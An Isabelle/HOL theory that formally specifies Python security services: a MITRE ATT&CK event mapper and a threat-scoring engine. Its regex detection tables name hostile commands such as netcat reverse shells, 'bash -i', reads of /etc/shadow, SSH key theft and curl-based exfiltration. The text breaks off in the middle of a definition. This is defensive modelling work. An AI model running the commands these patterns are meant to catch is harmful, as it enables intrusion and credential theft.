theory Spec2Isabelle
  imports Complex_Main "HOL-Library.Char_ord" "HOL-Library.List_Lexorder" "HOL-Library.Log_Nat"
begin

section \<open>Python values shared by the three services\<close>

text \<open>
  The services of \<^verbatim>\<open>backend/services\<close> are plain Python over dictionaries of type
  \<^verbatim>\<open>Dict[str, Any]\<close>. An exception is a value of \<open>py_error\<close>; a function that can raise
  returns \<open>py_error + 'a\<close> with \<open>Inl\<close> for the exception. \<open>StoreError\<close> is any exception of
  the event store (a subclass of \<^verbatim>\<open>Exception\<close>).
\<close>

datatype py_error =
    KeyError string
  | NameError string
  | AttributeError string
  | ValueError
  | TypeError
  | StoreError

subsection \<open>Strings\<close>

text \<open>
  A character is a code point below 256 (ASCII and the Latin-1 supplement). \<^verbatim>\<open>str.lower()\<close>
  maps the 26 capital letters, and the capital letters \<open>0xC0\<close> to \<open>0xDE\<close> but \<open>0xD7\<close>, to
  their small forms 32 places on, and leaves every other character alone.
\<close>

definition capitals :: string where
  "capitals = ''ABCDEFGHIJKLMNOPQRSTUVWXYZ'' @
     [CHR 0xC0, CHR 0xC1, CHR 0xC2, CHR 0xC3, CHR 0xC4, CHR 0xC5, CHR 0xC6, CHR 0xC7,
      CHR 0xC8, CHR 0xC9, CHR 0xCA, CHR 0xCB, CHR 0xCC, CHR 0xCD, CHR 0xCE, CHR 0xCF,
      CHR 0xD0, CHR 0xD1, CHR 0xD2, CHR 0xD3, CHR 0xD4, CHR 0xD5, CHR 0xD6,
      CHR 0xD8, CHR 0xD9, CHR 0xDA, CHR 0xDB, CHR 0xDC, CHR 0xDD, CHR 0xDE]"

definition smalls :: string where
  "smalls = ''abcdefghijklmnopqrstuvwxyz'' @
     [CHR 0xE0, CHR 0xE1, CHR 0xE2, CHR 0xE3, CHR 0xE4, CHR 0xE5, CHR 0xE6, CHR 0xE7,
      CHR 0xE8, CHR 0xE9, CHR 0xEA, CHR 0xEB, CHR 0xEC, CHR 0xED, CHR 0xEE, CHR 0xEF,
      CHR 0xF0, CHR 0xF1, CHR 0xF2, CHR 0xF3, CHR 0xF4, CHR 0xF5, CHR 0xF6,
      CHR 0xF8, CHR 0xF9, CHR 0xFA, CHR 0xFB, CHR 0xFC, CHR 0xFD, CHR 0xFE]"

definition lower_char :: "char \<Rightarrow> char" where
  "lower_char c = (case map_of (zip capitals smalls) c of None \<Rightarrow> c | Some d \<Rightarrow> d)"

definition lower :: "string \<Rightarrow> string" where
  "lower s = map lower_char s"

text \<open>\<^verbatim>\<open>s.startswith(p)\<close> and the substring test \<^verbatim>\<open>p in s\<close>.\<close>

fun startswith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startswith s [] = True"
| "startswith [] (p # ps) = False"
| "startswith (c # cs) (p # ps) = (c = p \<and> startswith cs ps)"

fun py_in :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "py_in p [] = (p = [])"
| "py_in p (c # cs) = (startswith (c # cs) p \<or> py_in p cs)"

text \<open>\<^verbatim>\<open>d.get(key, "")\<close> for a string-valued key: the empty string when the key is absent.\<close>

fun get_str :: "string option \<Rightarrow> string" where
  "get_str None = []"
| "get_str (Some s) = s"

subsection \<open>Regular expressions\<close>

text \<open>
  The patterns of the source use literal characters, the dot (any character but a
  newline), \<^verbatim>\<open>\s\<close> (white space: the six of ASCII, the four separators \<open>0x1C\<close> to \<open>0x1F\<close>,
  the next-line character \<open>0x85\<close> and the no-break space \<open>0xA0\<close>), the class \<^verbatim>\<open>[a-z0-9]\<close>, the repetitions \<^verbatim>\<open>*\<close> and \<^verbatim>\<open>+\<close>
  applied to a single character class, concatenation and alternation. The flag of
  \<open>cmatch\<close> is \<^verbatim>\<open>re.IGNORECASE\<close>.
\<close>

datatype cclass = Ch char | Dot | Ws | LowerAlnum

datatype regex =
    Eps
  | One cclass
  | Star cclass
  | Plus cclass
  | Seq regex regex
  | Alt regex regex

definition is_space :: "char \<Rightarrow> bool" where
  "is_space c \<longleftrightarrow> c \<in> set [CHR 0x09, CHR 0x0A, CHR 0x0B, CHR 0x0C, CHR 0x0D,
                              CHR 0x1C, CHR 0x1D, CHR 0x1E, CHR 0x1F, CHR 0x20,
                              CHR 0x85, CHR 0xA0]"

fun cmatch :: "bool \<Rightarrow> cclass \<Rightarrow> char \<Rightarrow> bool" where
  "cmatch ic (Ch a) c = (if ic then lower_char a = lower_char c else a = c)"
| "cmatch ic Dot c = (c \<noteq> CHR 0x0A)"
| "cmatch ic Ws c = is_space c"
| "cmatch ic LowerAlnum c =
     ((if ic then lower_char c else c) \<in> set ''abcdefghijklmnopqrstuvwxyz0123456789'')"

text \<open>
  \<open>rests ic r s\<close> lists what is left of \<open>s\<close> after each way of matching \<open>r\<close> at its
  start; \<^verbatim>\<open>re.search\<close> succeeds when the pattern matches at some position.
\<close>

fun star_rests :: "(char \<Rightarrow> bool) \<Rightarrow> string \<Rightarrow> string list" where
  "star_rests p [] = [[]]"
| "star_rests p (c # cs) = (c # cs) # (if p c then star_rests p cs else [])"

fun rests :: "bool \<Rightarrow> regex \<Rightarrow> string \<Rightarrow> string list" where
  "rests ic Eps s = [s]"
| "rests ic (One k) s = (case s of [] \<Rightarrow> [] | c # cs \<Rightarrow> if cmatch ic k c then [cs] else [])"
| "rests ic (Star k) s = star_rests (cmatch ic k) s"
| "rests ic (Plus k) s =
     (case s of [] \<Rightarrow> [] | c # cs \<Rightarrow> if cmatch ic k c then star_rests (cmatch ic k) cs else [])"
| "rests ic (Seq a b) s = concat (map (rests ic b) (rests ic a s))"
| "rests ic (Alt a b) s = rests ic a s @ rests ic b s"

fun re_search :: "bool \<Rightarrow> regex \<Rightarrow> string \<Rightarrow> bool" where
  "re_search ic r [] = (rests ic r [] \<noteq> [])"
| "re_search ic r (c # cs) = (rests ic r (c # cs) \<noteq> [] \<or> re_search ic r cs)"

text \<open>Writing patterns: a literal word, a sequence, a choice.\<close>

fun lit :: "string \<Rightarrow> regex" where
  "lit [] = Eps"
| "lit (c # cs) = Seq (One (Ch c)) (lit cs)"

fun seq :: "regex list \<Rightarrow> regex" where
  "seq [] = Eps"
| "seq (r # rs) = Seq r (seq rs)"

fun alts :: "regex \<Rightarrow> regex list \<Rightarrow> regex" where
  "alts r [] = r"
| "alts r (q # qs) = Alt r (alts q qs)"

text \<open>The words a pattern denotes, to check the matcher against.\<close>

fun cstar :: "(char \<Rightarrow> bool) \<Rightarrow> string \<Rightarrow> bool" where
  "cstar p w = (\<forall>c \<in> set w. p c)"

fun lang :: "bool \<Rightarrow> regex \<Rightarrow> string \<Rightarrow> bool" where
  "lang ic Eps w = (w = [])"
| "lang ic (One k) w = (case w of [c] \<Rightarrow> cmatch ic k c | _ \<Rightarrow> False)"
| "lang ic (Star k) w = cstar (cmatch ic k) w"
| "lang ic (Plus k) w = (w \<noteq> [] \<and> cstar (cmatch ic k) w)"
| "lang ic (Seq a b) w = (\<exists>i \<le> length w. lang ic a (take i w) \<and> lang ic b (drop i w))"
| "lang ic (Alt a b) w = (lang ic a w \<or> lang ic b w)"

section \<open>Events\<close>

text \<open>
  An event is a dictionary; the record holds the keys the services read. \<open>None\<close> is
  an absent key. Keys read only for their truth value are booleans (absent is false).
  \<open>at_timestamp\<close> is the key \<^verbatim>\<open>@timestamp\<close>, \<open>geo_country_code\<close> is
  \<^verbatim>\<open>event["geo"]["country_code"]\<close>, \<open>mitre_techniques\<close> is
  \<^verbatim>\<open>event["mitre"]["techniques"]\<close> (absent is the empty list), and the reputation keys are
  those of \<^verbatim>\<open>event["reputation"]\<close>.
\<close>

record event =
  eventid :: "string option"
  input :: "string option"
  alert_msg :: "string option"
  connection_type :: "string option"
  protocol :: "string option"
  timestamp :: "string option"
  at_timestamp :: "string option"
  priority :: "int option"
  in_blocklist :: bool
  abuse_confidence_score :: "int option"
  is_bot :: bool
  geo_country_code :: "string option"
  attack_speed :: "string option"
  ev_is_persistent :: bool
  mitre_techniques :: "string list"

definition empty_event :: event where
  "empty_event = \<lparr> eventid = None, input = None, alert_msg = None, connection_type = None,
     protocol = None, timestamp = None, at_timestamp = None, priority = None,
     in_blocklist = False, abuse_confidence_score = None, is_bot = False,
     geo_country_code = None, attack_speed = None, ev_is_persistent = False,
     mitre_techniques = [] \<rparr>"

section \<open>MITRE ATT&CK mapper (\<^verbatim>\<open>services/mitre_mapper.py\<close>)\<close>

subsection \<open>The catalog\<close>

text \<open>
  \<^verbatim>\<open>TACTICS\<close> and \<^verbatim>\<open>TECHNIQUE_MAPPINGS\<close> are dictionaries; Python iterates a dictionary in
  the order its keys were written, so both are association lists in source order.
\<close>

definition TACTICS :: "(string \<times> string) list" where
  "TACTICS =
    [(''TA0001'', ''Initial Access''),
     (''TA0002'', ''Execution''),
     (''TA0003'', ''Persistence''),
     (''TA0004'', ''Privilege Escalation''),
     (''TA0005'', ''Defense Evasion''),
     (''TA0006'', ''Credential Access''),
     (''TA0007'', ''Discovery''),
     (''TA0008'', ''Lateral Movement''),
     (''TA0009'', ''Collection''),
     (''TA0011'', ''Command and Control''),
     (''TA0010'', ''Exfiltration''),
     (''TA0040'', ''Impact''),
     (''TA0043'', ''Reconnaissance'')]"

record technique_data =
  tech_name :: string
  tech_tactic :: string
  tech_patterns :: "regex list"

definition TECHNIQUE_MAPPINGS :: "(string \<times> technique_data) list" where
  "TECHNIQUE_MAPPINGS =
    [(''T1078'', \<lparr>tech_name = ''Valid Accounts'', tech_tactic = ''TA0001'',
        tech_patterns = [lit ''login.success'', seq [lit ''ssh'', Star Dot, lit ''password'']]\<rparr>),
     (''T1110'', \<lparr>tech_name = ''Brute Force'', tech_tactic = ''TA0006'',
        tech_patterns = [lit ''login.failed'', seq [lit ''brute'', Star Dot, lit ''force''],
                         lit ''hydra'', lit ''medusa'']\<rparr>),
     (''T1059'', \<lparr>tech_name = ''Command and Scripting Interpreter'', tech_tactic = ''TA0002'',
        tech_patterns = [lit ''bash'', seq [lit ''sh'', One Ws], lit ''python'', lit ''perl'',
                         lit ''command.input'']\<rparr>),
     (''T1053'', \<lparr>tech_name = ''Scheduled Task/Job'', tech_tactic = ''TA0003'',
        tech_patterns = [lit ''crontab'', seq [lit ''at'', One Ws], lit ''systemd'']\<rparr>),
     (''T1136'', \<lparr>tech_name = ''Create Account'', tech_tactic = ''TA0003'',
        tech_patterns = [lit ''useradd'', lit ''adduser'', lit ''passwd'']\<rparr>),
     (''T1548'', \<lparr>tech_name = ''Abuse Elevation Control Mechanism'', tech_tactic = ''TA0004'',
        tech_patterns = [lit ''sudo'', seq [lit ''su'', One Ws], lit ''pkexec'']\<rparr>),
     (''T1070'', \<lparr>tech_name = ''Indicator Removal on Host'', tech_tactic = ''TA0005'',
        tech_patterns = [seq [lit ''rm'', Star Dot, lit ''log''], lit ''shred'',
                         seq [lit ''history'', One Ws, lit ''-c''],
                         seq [lit ''unset'', One Ws, lit ''HISTFILE'']]\<rparr>),
     (''T1027'', \<lparr>tech_name = ''Obfuscated Files or Information'', tech_tactic = ''TA0005'',
        tech_patterns = [lit ''base64'', lit ''xxd'', seq [lit ''openssl'', One Ws, lit ''enc''],
                         lit ''gzip'']\<rparr>),
     (''T1003'', \<lparr>tech_name = ''OS Credential Dumping'', tech_tactic = ''TA0006'',
        tech_patterns = [lit ''/etc/passwd'', lit ''/etc/shadow'', lit ''mimikatz'',
                         seq [lit ''dump'', Star Dot, lit ''cred'']]\<rparr>),
     (''T1552'', \<lparr>tech_name = ''Unsecured Credentials'', tech_tactic = ''TA0006'',
        tech_patterns = [lit ''.ssh/'', lit ''id_rsa'', lit ''.aws/'', lit ''.docker/config'']\<rparr>),
     (''T1082'', \<lparr>tech_name = ''System Information Discovery'', tech_tactic = ''TA0007'',
        tech_patterns = [lit ''uname'', lit ''hostname'', seq [lit ''cat'', One Ws, lit ''/etc/issue''],
                         lit ''lsb_release'']\<rparr>),
     (''T1033'', \<lparr>tech_name = ''System Owner/User Discovery'', tech_tactic = ''TA0007'',
        tech_patterns = [lit ''whoami'', seq [lit ''id'', One Ws], seq [lit ''w'', One Ws],
                         seq [lit ''who'', One Ws]]\<rparr>),
     (''T1046'', \<lparr>tech_name = ''Network Service Discovery'', tech_tactic = ''TA0007'',
        tech_patterns = [lit ''netstat'', seq [lit ''ss'', One Ws],
                         seq [lit ''lsof'', Star Dot, lit ''LISTEN'']]\<rparr>),
     (''T1057'', \<lparr>tech_name = ''Process Discovery'', tech_tactic = ''TA0007'',
        tech_patterns = [seq [lit ''ps'', One Ws], seq [lit ''top'', One Ws], lit ''htop'']\<rparr>),
     (''T1021'', \<lparr>tech_name = ''Remote Services'', tech_tactic = ''TA0008'',
        tech_patterns = [seq [lit ''ssh'', One Ws, Star Dot, lit ''@''], seq [lit ''scp'', One Ws],
                         lit ''rsync'']\<rparr>),
     (''T1005'', \<lparr>tech_name = ''Data from Local System'', tech_tactic = ''TA0009'',
        tech_patterns = [seq [lit ''cat'', One Ws], seq [lit ''head'', One Ws],
                         seq [lit ''tail'', One Ws],
                         seq [lit ''grep'', One Ws, Star Dot, lit ''-r'']]\<rparr>),
     (''T1560'', \<lparr>tech_name = ''Archive Collected Data'', tech_tactic = ''TA0009'',
        tech_patterns = [seq [lit ''tar'', One Ws, Star Dot, lit ''czf''], seq [lit ''zip'', One Ws],
                         seq [lit ''7z'', One Ws]]\<rparr>),
     (''T1071'', \<lparr>tech_name = ''Application Layer Protocol'', tech_tactic = ''TA0011'',
        tech_patterns = [lit ''curl'', lit ''wget'', lit ''http'']\<rparr>),
     (''T1105'', \<lparr>tech_name = ''Ingress Tool Transfer'', tech_tactic = ''TA0011'',
        tech_patterns = [seq [lit ''wget'', One Ws, lit ''http''],
                         seq [lit ''curl'', Star Dot, lit ''-o''],
                         seq [lit ''scp'', Star Dot, lit ''download'']]\<rparr>),
     (''T1572'', \<lparr>tech_name = ''Protocol Tunneling'', tech_tactic = ''TA0011'',
        tech_patterns = [seq [lit ''ssh'', Star Dot, lit ''-L''], seq [lit ''ssh'', Star Dot, lit ''-R''],
                         seq [lit ''ssh'', Star Dot, lit ''-D'']]\<rparr>),
     (''T1041'', \<lparr>tech_name = ''Exfiltration Over C2 Channel'', tech_tactic = ''TA0010'',
        tech_patterns = [seq [lit ''curl'', Star Dot, lit ''--data''],
                         seq [lit ''wget'', Star Dot, lit ''--post'']]\<rparr>),
     (''T1048'', \<lparr>tech_name = ''Exfiltration Over Alternative Protocol'', tech_tactic = ''TA0010'',
        tech_patterns = [seq [lit ''nc'', One Ws, Star Dot, lit ''<''],
                         seq [lit ''ncat'', Star Dot, lit ''--send-only'']]\<rparr>),
     (''T1486'', \<lparr>tech_name = ''Data Encrypted for Impact'', tech_tactic = ''TA0040'',
        tech_patterns = [lit ''encrypt'', lit ''ransom'', lit ''.locked'']\<rparr>),
     (''T1496'', \<lparr>tech_name = ''Resource Hijacking'', tech_tactic = ''TA0040'',
        tech_patterns = [lit ''xmrig'', lit ''minerd'', lit ''cpuminer'', lit ''cryptonight'']\<rparr>),
     (''T1531'', \<lparr>tech_name = ''Account Access Removal'', tech_tactic = ''TA0040'',
        tech_patterns = [lit ''userdel'', seq [lit ''passwd'', Star Dot, lit ''-l'']]\<rparr>),
     (''T1595'', \<lparr>tech_name = ''Active Scanning'', tech_tactic = ''TA0043'',
        tech_patterns = [lit ''nmap'', lit ''masscan'', seq [lit ''port'', Star Dot, lit ''scan'']]\<rparr>)]"

subsection \<open>\<^verbatim>\<open>map_event\<close>\<close>

record technique_detail =
  technique_id :: string
  technique_name :: string
  tactic_id :: string
  tactic_name :: string
  matched_pattern :: regex

record mapped =
  tactics :: "string list"
  techniques :: "string list"
  technique_details :: "technique_detail list"

definition combined_text :: "event \<Rightarrow> string" where
  "combined_text e =
     lower (get_str (eventid e) @ '' '' @ get_str (input e) @ '' '' @ get_str (alert_msg e))"

text \<open>
  The inner loop tests the patterns of one technique in order and leaves at the first
  that matches (\<^verbatim>\<open>break\<close>): the patterns behind it are not looked at.
\<close>

fun first_matching :: "regex list \<Rightarrow> string \<Rightarrow> regex option" where
  "first_matching [] text = None"
| "first_matching (pattern # ps) text =
     (if re_search True pattern text then Some pattern else first_matching ps text)"

text \<open>
  The body run at a match. \<^verbatim>\<open>self.TACTICS[tactic_id]\<close> raises \<^verbatim>\<open>KeyError\<close> for a tactic
  the table does not hold; by then the technique and the tactic are already appended.
\<close>

definition record_match :: "string \<Rightarrow> technique_data \<Rightarrow> regex \<Rightarrow> mapped \<Rightarrow> py_error + mapped" where
  "record_match tid td pattern m =
     (if tid \<notin> set (techniques m) then
        (let m1 = m\<lparr>techniques := techniques m @ [tid]\<rparr>;
             tac = tech_tactic td;
             m2 = (if tac \<notin> set (tactics m1) then m1\<lparr>tactics := tactics m1 @ [tac]\<rparr> else m1)
         in case map_of TACTICS tac of
              None \<Rightarrow> Inl (KeyError tac)
            | Some tn \<Rightarrow>
                Inr (m2\<lparr>technique_details := technique_details m2 @
                       [\<lparr>technique_id = tid, technique_name = tech_name td, tactic_id = tac,
                         tactic_name = tn, matched_pattern = pattern\<rparr>]\<rparr>))
      else Inr m)"

fun map_loop :: "(string \<times> technique_data) list \<Rightarrow> string \<Rightarrow> mapped \<Rightarrow> py_error + mapped" where
  "map_loop [] text m = Inr m"
| "map_loop ((tid, td) # rest) text m =
     (case first_matching (tech_patterns td) text of
        None \<Rightarrow> map_loop rest text m
      | Some pattern \<Rightarrow>
          (case record_match tid td pattern m of
             Inl err \<Rightarrow> Inl err
           | Inr m' \<Rightarrow> map_loop rest text m'))"

definition empty_mapped :: mapped where
  "empty_mapped = \<lparr>tactics = [], techniques = [], technique_details = []\<rparr>"

definition map_event :: "event \<Rightarrow> py_error + mapped" where
  "map_event e = map_loop TECHNIQUE_MAPPINGS (combined_text e) empty_mapped"

subsection \<open>\<^verbatim>\<open>get_attack_chain\<close>\<close>

record chain_step =
  step_tactic :: string
  step_tactic_id :: string
  step_technique :: string
  step_technique_id :: string
  step_timestamp :: "string option"
  step_evidence :: "string option"

text \<open>\<^verbatim>\<open>event.get("input") or event.get("alert_msg")\<close>: the input when it is a non-empty string.\<close>

definition evidence :: "event \<Rightarrow> string option" where
  "evidence e =
     (case input e of
        None \<Rightarrow> alert_msg e
      | Some s \<Rightarrow> if s \<noteq> [] then Some s else alert_msg e)"

fun chain_details ::
  "event \<Rightarrow> technique_detail list \<Rightarrow> chain_step list \<times> string set \<Rightarrow> chain_step list \<times> string set"
where
  "chain_details e [] (chain, seen_tactics) = (chain, seen_tactics)"
| "chain_details e (detail # ds) (chain, seen_tactics) =
     (if tactic_id detail \<notin> seen_tactics then
        chain_details e ds
          (chain @ [\<lparr>step_tactic = tactic_name detail, step_tactic_id = tactic_id detail,
                      step_technique = technique_name detail,
                      step_technique_id = technique_id detail,
                      step_timestamp = timestamp e, step_evidence = evidence e\<rparr>],
           insert (tactic_id detail) seen_tactics)
      else chain_details e ds (chain, seen_tactics))"

fun chain_events ::
  "event list \<Rightarrow> chain_step list \<times> string set \<Rightarrow> py_error + chain_step list \<times> string set"
where
  "chain_events [] st = Inr st"
| "chain_events (e # es) st =
     (case map_event e of
        Inl err \<Rightarrow> Inl err
      | Inr mapping \<Rightarrow> chain_events es (chain_details e (technique_details mapping) st))"

text \<open>
  \<^verbatim>\<open>sorted(events, key=lambda x: x.get("timestamp", ""))\<close>: Python's sort is stable, as
  \<open>sort_key\<close> is, and compares strings character by character.
\<close>

definition timestamp_key :: "event \<Rightarrow> string" where
  "timestamp_key x = get_str (timestamp x)"

definition get_attack_chain :: "event list \<Rightarrow> py_error + chain_step list" where
  "get_attack_chain events =
     (case chain_events (sort_key timestamp_key events) ([], {}) of
        Inl err \<Rightarrow> Inl err
      | Inr (chain, seen_tactics) \<Rightarrow> Inr chain)"

subsection \<open>\<^verbatim>\<open>map_to_mitre_bulk\<close>\<close>

text \<open>
  The wrapper at the end of the module reads two global names: \<^verbatim>\<open>_mapper_instance\<close>, which
  the module sets to \<^verbatim>\<open>None\<close>, and the class it instantiates. The module defines one class,
  \<^verbatim>\<open>MitreAttackMapper\<close>, with the methods listed here; a name the module (and the builtins)
  does not define raises \<^verbatim>\<open>NameError\<close>, a method the class does not have raises
  \<^verbatim>\<open>AttributeError\<close>. The state is the class of the instance held by \<^verbatim>\<open>_mapper_instance\<close>.
\<close>

definition module_classes :: "(string \<times> string list) list" where
  "module_classes =
     [(''MitreAttackMapper'', [''map_event'', ''get_attack_chain'', ''generate_attack_narrative''])]"

definition instantiate :: "string \<Rightarrow> py_error + string" where
  "instantiate cname =
     (case map_of module_classes cname of
        None \<Rightarrow> Inl (NameError cname)
      | Some methods \<Rightarrow> Inr cname)"

definition call_map_to_mitre :: "string \<Rightarrow> event \<Rightarrow> py_error + mapped" where
  "call_map_to_mitre cls e =
     (case map_of module_classes cls of
        None \<Rightarrow> Inl (AttributeError ''map_to_mitre'')
      | Some methods \<Rightarrow>
          if ''map_to_mitre'' \<in> set methods then map_event e
          else Inl (AttributeError ''map_to_mitre''))"

fun bulk_loop :: "string \<Rightarrow> event list \<Rightarrow> mapped list \<Rightarrow> py_error + mapped list" where
  "bulk_loop inst [] results = Inr results"
| "bulk_loop inst (e # es) results =
     (case call_map_to_mitre inst e of
        Inl err \<Rightarrow> Inl err
      | Inr result \<Rightarrow> bulk_loop inst es (results @ [result]))"

definition map_to_mitre_bulk ::
  "string option \<Rightarrow> event list \<Rightarrow> (py_error + mapped list) \<times> string option" where
  "map_to_mitre_bulk mapper_instance events =
     (case mapper_instance of
        None \<Rightarrow>
          (case instantiate ''MitreMapper'' of
             Inl err \<Rightarrow> (Inl err, None)
           | Inr inst \<Rightarrow> (bulk_loop inst events [], Some inst))
      | Some inst \<Rightarrow> (bulk_loop inst events [], Some inst))"

text \<open>Successive calls of the wrapper, from the state the previous call left.\<close>

fun bulk_calls :: "string option \<Rightarrow> event list list \<Rightarrow> (py_error + mapped list) list" where
  "bulk_calls st [] = []"
| "bulk_calls st (events # rest) =
     (case map_to_mitre_bulk st events of (res, st') \<Rightarrow> res # bulk_calls st' rest)"

section \<open>Threat scoring engine (\<^verbatim>\<open>services/threat_scoring.py\<close>)\<close>

text \<open>
  A parsed time stamp: the hour of the day, whether the value carries a time zone, and
  its position on the time line in seconds. \<^verbatim>\<open>datetime.fromisoformat\<close> is the library's;
  the services take it as a parameter that returns \<open>None\<close> where the library raises
  \<^verbatim>\<open>ValueError\<close>.
\<close>

record datetime =
  hour :: int
  tz_aware :: bool
  instant :: rat

text \<open>\<^verbatim>\<open>timestamp.replace("Z", "+00:00")\<close>.\<close>

definition replace_Z :: "string \<Rightarrow> string" where
  "replace_Z s = concat (map (\<lambda>c. if c = CHR ''Z'' then ''+00:00'' else [c]) s)"

definition ATTACK_TYPE_SCORES :: "(string \<times> int) list" where
  "ATTACK_TYPE_SCORES =
    [(''port_scan'', 5), (''service_enum'', 8), (''vuln_scan'', 10),
     (''brute_force_failed'', 15), (''brute_force_success'', 40),
     (''exploit_attempt'', 30), (''exploit_success'', 60),
     (''command_execution'', 25), (''script_execution'', 30), (''malware_execution'', 70),
     (''backdoor_install'', 65), (''scheduled_task'', 45), (''service_creation'', 50),
     (''sudo_attempt'', 35), (''root_access'', 55),
     (''log_deletion'', 40), (''process_injection'', 60),
     (''password_dump'', 70), (''key_logging'', 65),
     (''network_discovery'', 20), (''system_info'', 15),
     (''remote_service'', 50), (''ssh_tunneling'', 55),
     (''data_staged'', 60), (''screenshot'', 40),
     (''c2_connection'', 75), (''encrypted_channel'', 70),
     (''data_exfil'', 85), (''dns_tunneling'', 80),
     (''ransomware'', 95), (''crypto_mining'', 50), (''resource_hijacking'', 45)]"

definition HIGH_RISK_COUNTRIES :: "(string \<times> int) list" where
  "HIGH_RISK_COUNTRIES =
    [(''CN'', 15), (''RU'', 15), (''KP'', 20), (''IR'', 18), (''VN'', 10), (''BR'', 8)]"

definition COMMAND_PATTERNS :: "(regex \<times> string \<times> int) list" where
  "COMMAND_PATTERNS =
    [(seq [Alt (lit ''wget'') (lit ''curl''), Plus Ws, lit ''http''], ''malware_download'', 30),
     (seq [lit ''chmod'', Plus Ws, lit ''+x''], ''make_executable'', 25),
     (seq [Alt (lit ''nc'') (lit ''netcat''), Star Dot, lit ''-e''], ''reverse_shell'', 70),
     (seq [lit ''bash'', Plus Ws, lit ''-i''], ''interactive_shell'', 65),
     (seq [lit ''/etc/'', Alt (lit ''passwd'') (lit ''shadow'')], ''credential_theft'', 60),
     (seq [Alt (lit ''cat'') (lit ''grep''), Star Dot, lit ''.ssh''], ''ssh_key_theft'', 55),
     (lit ''crontab'', ''persistence'', 45),
     (seq [Alt (lit ''kill'') (lit ''pkill''), Star Dot, lit ''log''], ''anti_forensics'', 40),
     (alts (lit ''uname'') [lit ''whoami'', lit ''id''], ''reconnaissance'', 10),
     (Alt (lit ''iptables'') (lit ''firewall''), ''defense_evasion'', 35),
     (seq [alts (lit ''python'') [lit ''perl'', lit ''ruby''], Star Dot, lit ''-c''], ''scripting'', 30),
     (seq [lit ''base64'', Star Dot, lit ''decode''], ''obfuscation'', 35)]"

record score_breakdown =
  base_score :: int
  attack_type_score :: int
  sophistication_score :: int
  success_multiplier :: rat
  ip_reputation_score :: int
  geo_risk_score :: int
  temporal_score :: int
  final_score :: int

record score_result =
  threat_score :: int
  severity :: string
  attack_type :: string
  breakdown :: score_breakdown
  recommendations :: "string list"

fun first_command_pattern :: "(regex \<times> string \<times> int) list \<Rightarrow> string \<Rightarrow> string option" where
  "first_command_pattern [] command = None"
| "first_command_pattern ((pattern, atype, risk) # rest) command =
     (if re_search True pattern command then Some atype else first_command_pattern rest command)"

definition identify_attack_type :: "event \<Rightarrow> string" where
  "identify_attack_type e =
     (let event_id = get_str (eventid e) in
      if py_in ''login.failed'' event_id then ''brute_force_failed''
      else if py_in ''login.success'' event_id then ''brute_force_success''
      else if py_in ''file_download'' event_id then ''malware_download''
      else if py_in ''command.input'' event_id then
        (case first_command_pattern COMMAND_PATTERNS (lower (get_str (input e))) of
           Some atype \<Rightarrow> atype
         | None \<Rightarrow> ''command_execution'')
      else if connection_type e = Some ''smb'' then ''exploit_attempt''
      else
        (let alert = lower (get_str (alert_msg e)) in
         if py_in ''brute force'' alert then ''brute_force_attempt''
         else if py_in ''port scan'' alert then ''port_scan''
         else if py_in ''exploit'' alert then ''exploit_attempt''
         else ''unknown''))"

definition assess_sophistication :: "event \<Rightarrow> int" where
  "assess_sophistication e =
     (let command = lower (get_str (input e));
          s1 = (if re_search False (alts (lit ''base64'') [lit ''xxd'', lit ''hex'']) command
                then 15 else 0);
          s2 = s1 + (if re_search False (seq [lit ''./'', Plus LowerAlnum]) command then 10 else 0);
          s3 = s2 + (if re_search False (alts (lit ''openssl'') [lit ''gpg'', lit ''aes'']) command
                     then 12 else 0);
          s4 = s3 + (if re_search False (alts (lit ''shred'') [lit ''wipe'', lit ''srm'']) command
                     then 20 else 0);
          s5 = s4 + (if length (mitre_techniques e) > 3 then 15 else 0)
      in min 30 s5)"

definition is_successful_attack :: "event \<Rightarrow> bool" where
  "is_successful_attack e =
     (let event_id = get_str (eventid e) in
      if py_in ''login.success'' event_id then True
      else if py_in ''command.input'' event_id then True
      else if py_in ''file_download'' event_id \<or> py_in ''download.complete'' event_id then True
      else if priority e = Some 1 then True
      else False)"

definition assess_ip_reputation :: "event \<Rightarrow> int" where
  "assess_ip_reputation e =
     (let r1 = (if in_blocklist e then 20 else 0);
          abuse_score = (case abuse_confidence_score e of None \<Rightarrow> 0 | Some a \<Rightarrow> a);
          r2 = r1 + (if abuse_score > 75 then 15
                     else if abuse_score > 50 then 10
                     else if abuse_score > 25 then 5
                     else 0);
          r3 = r2 + (if is_bot e then 10 else 0)
      in min 25 r3)"

definition assess_temporal_patterns :: "(string \<Rightarrow> datetime option) \<Rightarrow> event \<Rightarrow> int" where
  "assess_temporal_patterns fromisoformat e =
     (let t1 = (if attack_speed e = Some ''rapid'' then 10 else 0);
          t2 = t1 + (if ev_is_persistent e then 15 else 0);
          t3 = t2 + (case at_timestamp e of
                       None \<Rightarrow> 0
                     | Some ts \<Rightarrow>
                         if ts = [] then 0
                         else (case fromisoformat (replace_Z ts) of
                                 None \<Rightarrow> 0
                               | Some dt \<Rightarrow> if 0 \<le> hour dt \<and> hour dt < 6 then 5 else 0))
      in min 20 t3)"

definition score_to_severity :: "int \<Rightarrow> string" where
  "score_to_severity score =
     (if score \<ge> 76 then ''critical''
      else if score \<ge> 51 then ''high''
      else if score \<ge> 26 then ''medium''
      else ''low'')"

definition generate_recommendations :: "int \<Rightarrow> string \<Rightarrow> string list" where
  "generate_recommendations score atype =
     (let r1 = (if score \<ge> 76 then
                  [''IMMEDIATE ACTION REQUIRED'', ''Block source IP at firewall'',
                   ''Initiate incident response procedure'',
                   ''Preserve logs and artifacts for forensics'',
                   ''Notify security team and management'']
                else if score \<ge> 51 then
                  [''Block source IP'', ''Monitor for related activity'',
                   ''Update IDS signatures'', ''Review and patch targeted services'']
                else if score \<ge> 26 then
                  [''Add to watchlist'', ''Monitor for escalation'', ''Review authentication logs'']
                else [''Log for intelligence'', ''No immediate action required'']);
          r2 = r1 @ (if atype \<in> set [''malware_download'', ''malware_execution'']
                     then [''Submit malware sample to VirusTotal'', ''Update antivirus signatures'']
                     else []);
          r3 = r2 @ (if atype \<in> set [''brute_force_success'', ''credential_theft'']
                     then [''Force password reset for affected accounts'',
                           ''Enable MFA if not already active'']
                     else [])
      in r3)"

text \<open>
  \<^verbatim>\<open>int(x)\<close> on a float cuts the fraction off, towards zero. The sum handed to it is a whole
  number or a whole number and a half, far below \<open>2^53\<close>, so the float holds it exactly and
  a rational models it.
\<close>

definition py_int :: "rat \<Rightarrow> int" where
